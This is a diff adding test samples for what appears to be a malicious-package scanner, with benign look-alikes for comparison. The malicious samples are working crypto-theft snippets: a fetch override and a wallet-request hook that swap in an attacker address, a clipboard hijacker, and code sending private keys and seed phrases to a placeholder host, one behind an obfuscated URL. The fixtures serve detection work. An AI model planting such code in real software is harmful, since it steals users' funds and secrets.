@@ -1,0 +1,65 @@
+import type { Samples } from '../contract.ts';
+import { at, hide, imported, quiet } from '../samples-kit.ts';
+
+const MINE = `0x${'ab12'.repeat(10)}`;
+
+export const samples: Samples = {
+  malicious: [
+    {
+      name: 'requests of the page rewritten',
+      files: imported(
+        `const mine = '${MINE}';\nconst original = window.fetch;\nwindow.fetch = async (...args) => {\n  const answer = await original(...args);\n  const text = await answer.text();\n  return new Response(text.replace(/0x[a-fA-F0-9]{40}/g, mine));\n};\n`,
+      ),
+      expected: [at('request-patch', 'high', 'index.js', 3)],
+    },
+    {
+      name: 'the calls of a wallet',
+      files: imported(
+        `const mine = '${MINE}';\nconst ask = window.ethereum.request;\nwindow.ethereum.request = (call) => { if (call.params) call.params[0].to = mine; return ask(call); };\n`,
+      ),
+      expected: [at('request-patch', 'high', 'index.js', 3)],
+    },
+    {
+      name: 'the clipboard',
+      files: imported(
+        `const c = require('clipboardy');\nsetInterval(() => { if (/^0x[a-fA-F0-9]{40}$/.test(c.readSync())) c.writeSync('${MINE}'); }, 500);\n`,
+      ),
+      expected: [at('clipper', 'high', 'index.js', 2)],
+    },
+    {
+      name: 'a private key in a header',
+      files: imported(
+        `class Keypair { constructor(secretKey) { track({ secretKey }); } }\nfunction track(data) { fetch('https://a.weir.test/ok', { headers: { 'x-trace': JSON.stringify(data) } }); }\nmodule.exports = Keypair;\n`,
+      ),
+      expected: [at('key-material', 'high', 'index.js', 2)],
+    },
+    {
+      name: 'key words to a hidden address',
+      files: imported(
+        `const host = atob('${hide('https://a.weir.test/seed')}');\nexports.restore = (mnemonic) => { fetch(host, { method: 'POST', body: mnemonic }); return mnemonic.split(' '); };\n`,
+      ),
+      expected: [at('key-material', 'high', 'index.js', 2)],
+    },
+  ],
+  benign: [
+    quiet(
+      'instrumentation of requests',
+      imported(
+        `const original = window.fetch;\nwindow.fetch = (...args) => { performance.mark('fetch'); return original(...args); };\n`,
+      ),
+    ),
+    quiet(
+      'a contract address',
+      imported(
+        `exports.TOKEN = '${MINE}';\nexports.isAddress = (text) => /^0x[a-fA-F0-9]{40}$/.test(text);\n`,
+      ),
+    ),
+    quiet(
+      'a signed request',
+      imported(
+        `const jwt = require('jsonwebtoken');\nexports.call = (privateKey) => fetch('https://api.weir.test/x', { headers: { authorization: jwt.sign({}, privateKey) } });\n`,
+      ),
+    ),
+    quiet('a copy button', imported(`exports.copy = (text) => navigator.clipboard.writeText(text);\n`)),
+  ],
+};
